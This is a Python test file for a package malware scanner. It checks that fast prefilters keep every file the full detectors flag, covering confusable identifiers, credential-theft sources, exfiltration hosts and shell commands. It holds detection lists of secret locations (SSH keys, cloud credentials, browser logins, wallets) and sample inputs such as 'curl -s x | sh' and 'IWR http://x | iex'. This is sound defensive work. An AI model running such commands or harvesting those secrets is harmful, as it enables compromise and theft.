"""Cheap looks a rule takes before its real work must never turn away a file the work flags."""

from __future__ import annotations

import re

import pytest

from douane.analysis import exfiltration as ex
from douane.analysis import indicators as ind
from douane.analysis.context import FileContext, Words
from douane.analysis.interface import FileType
from douane.analysis.obfuscation import _may_confuse, confusable_identifier
from douane.domain import ArtifactKind, Member, Where


def _file(text: str) -> FileContext:
    data = text.encode()
    return FileContext(Member("m.py", data, len(data)), "m.py", FileType.PYTHON, Where.IMPORT,
                       ArtifactKind.SDIST)  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "ｅｘｅｃ(payload)\n",
        "𝐞𝐱𝐞𝐜(payload)\n",
        "def sеnd_data():\n    pass\n",  # Cyrillic е
        "x² = 1\n",
        "ﬁle = open('x')\n",
        "import ｏｓ\nｏｓ.system('id')\n",
    ],
)
def test_confusable_prefilter_lets_flagged_names_through(text):
    """Regression: DOU705 tokenized every file holding one Greek, Cyrillic or fullwidth byte
    (a third of a big SDK's scan); the prefilter must still pass what the tokens flag."""
    assert list(confusable_identifier(_file(text)))
    assert _may_confuse(_file(text))


@pytest.mark.parametrize(
    "text",
    [
        "# привет мир\nx = 1\n",
        "μ = 3\nΔx = 1\nσ_max = 2\n",
        "s = '中文，测试：（）'\n",
        "a = 'em — dash'\ncafé = 1\n",
        "s = 'ｅｘｅｃ in a string'  # 𝐞𝐱𝐞𝐜 in a comment\n",
    ],
)
def test_confusable_prefilter_skips_prose_and_notation(text):
    assert not list(confusable_identifier(_file(text)))
    assert not _may_confuse(_file(text))


_OLD_SOURCES = re.compile(
    rb"get_credentials|get_frozen_credentials|gethostname|getfqdn|platform\.node|node\(\)|uname|"
    rb"getuser|getlogin|getnode|GetUserName|GetComputerName|environ[):,]|"
    rb"environ\.(copy|items|keys|values)|CryptUnprotectData|paste\(|GetClipboardData|"
    rb"clipboard_get|ImageGrab|screenshot|mss\(|listdir|whoami|printenv|169\.254\.169\.254|"
    rb"metadata\.google|\{24\}|dQw4w9WgXcQ|\.ssh|id_rsa|\.aws|netrc|pypirc|npmrc|\.docker|"
    rb"\.kube|/etc/passwd|/etc/shadow|Keychain|Login Data|Cookies|Local State|logins\.json|"
    rb"key4\.db|leveldb|Local Storage|wallet|Wallet|Exodus|Electrum|solana|USERNAME|"
    rb"COMPUTERNAME|ipify|ipinfo|ifconfig|icanhazip|ip-api|ipapi|checkip|ident\.me|myip"
)
_OLD_DROP = re.compile(
    rb"[\w-]\.("
    + b"|".join(
        re.escape(x.encode())
        for x in sorted(
            ind.TUNNEL_SUFFIXES
            | ind.MOCK_API_SUFFIXES
            | ind.DYNDNS_SUFFIXES
            | ind.FILE_HOST_SUFFIXES
        )
    )
    + rb")\b"
)
_SAMPLES = [
    b"x = os.environ.copy()",
    b"x = os.environ['HOME']",
    b"platform.node()",
    b"print('node ()')",
    b"u = 'abc.ngrok.io/x'",
    b"u = 'abc.ngrok.iox'",
    b"u = '.ngrok.io'",
    b"u = 'a-.ngrok.io'",
    b"ngrok.io",
    b"u = 'x.pipedream.net'",
    b"requests.post(u, data=d)",
    b"'wallets'",
]


@pytest.mark.parametrize("data", _SAMPLES)
def test_exfiltration_candidate_searches_match_the_regexes_they_replace(data):
    """Regression: three regexes over every sending file cost ~70 ms per 250 KB."""
    assert ex._SOURCE_WORDS.search(data) == bool(_OLD_SOURCES.search(data))


@pytest.mark.parametrize(
    ("data", "reads"),
    [(b"'application/vnd.kubernetes.protobuf'", False), (b"open(home + '/.kube/config')", True),
     (b"os.path.join(h, '.ssh', 'id_ed25519')", True), (b"see amazon.aws docs", False)],
)  # fmt: skip
def test_credential_folders_count_as_sources_only_as_paths(data, reads):
    """Regression: 154 files of a Kubernetes client had their flows analysed for `.kube` in
    `application/vnd.kubernetes.protobuf` alone (DOU511's drop-less gate)."""
    sources = ex._SOURCE_WORDS.search(data) or any(
        f.pattern.search(data) for f in ex._SOURCE_FOLDERS
    )
    assert sources is reads
    assert ex._drop_host_bytes(data) == bool(_OLD_DROP.search(data))
    if ex._IP_BYTES.search(data):
        assert ex._IP_HINT.search(data)


def test_words_reports_overlapping_occurrences_with_their_starts():
    w = Words([b"abc", b"bc", b"c"])
    assert sorted(w.finditer(b"xabc")) == [(1, b"abc"), (2, b"bc"), (3, b"c")]
    assert w.search(b"zzc") and not w.search(b"zzz")


@pytest.mark.parametrize("at", [0, 5, 6, 7, 8, 9, 13, 14])
def test_words_finds_a_word_across_a_window_edge_exactly_once(monkeypatch, at):
    """Files are searched in windows (a bounded list of matches at a time): a word that
    straddles two windows is reported once, at its true offset, like one that does not."""
    monkeypatch.setattr(Words, "WINDOW", 8)
    w = Words([b"secret", b"cret", b"et"])
    data = b"." * at + b"secret" + b"." * 9
    expected = [(at, b"secret"), (at + 2, b"cret"), (at + 4, b"et")]
    assert sorted(w.finditer(data)) == expected
    assert w.search(data) and not w.search(b"." * 30)
    assert list(w.finditer(b"")) == [] and not w.search(b"")


def test_trigger_scan_reports_offsets_of_literals_in_every_window(monkeypatch):
    """The engine's trigger scan gates the walk by the lines its offsets fall on: every
    occurrence must be there, in whichever window of a large file it falls."""
    from douane.analysis.engine import TriggerScanner

    monkeypatch.setattr(Words, "WINDOW", 16)
    scanner = TriggerScanner([b"system", b"popen"], extra=[b"Request"])
    data = b"x = 1\n" * 3 + b"os.system(cmd)\n" + b"y = 2\n" * 5 + b"os.popen(c)  # Request\n"
    present, offsets, found = scanner.scan(data)
    assert present == {b"system", b"popen"}
    assert sorted(offsets) == [data.index(b"system"), data.index(b"popen")]
    assert found == {b"system", b"popen", b"Request"}


@pytest.mark.parametrize(
    ("data", "may"),
    [
        (b"call('make all')", False),
        (b"confirm(); firmware", False),
        (b'os.system("CURL -s x | sh")', True),
        (b"os.system('IWR http://x | iex')", True),
        ("os.system('power\u017fhell -enc AAAA')".encode(), True),  # ſ: IGNORECASE's s
        (b'call(\n    "curl -s x | sh")', True),
        (b'"""Fetch it with curl."""\nField(description="HTTP tool (curl and wget).")', False),
    ],
)
def test_unparsed_shell_prefilter_keeps_every_command_its_patterns_match(data, may):
    """Regression: DOU209's regex ran over every gated file holding `call`."""
    from douane.analysis.process import _may_fetch_or_lolbin

    assert _may_fetch_or_lolbin(data) is may
